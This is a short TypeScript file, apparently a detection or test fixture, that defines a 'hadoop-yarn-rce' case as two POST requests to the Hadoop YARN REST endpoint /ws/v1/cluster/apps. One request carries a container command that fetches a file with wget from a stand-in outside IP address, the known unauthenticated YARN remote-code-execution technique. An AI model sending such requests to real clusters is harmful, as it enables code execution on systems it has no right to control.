import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'hadoop-yarn-rce',
    post(
      '/ws/v1/cluster/apps',
      '{"am-container-spec":{"commands":{"command":"wget http://198.51.100.7/x"}}}',
    ),
    post('/ws/v1/cluster/apps', '{"am-container-spec":{"commands":{"command":"hadoop jar x.jar"}}}'),
  ),
]
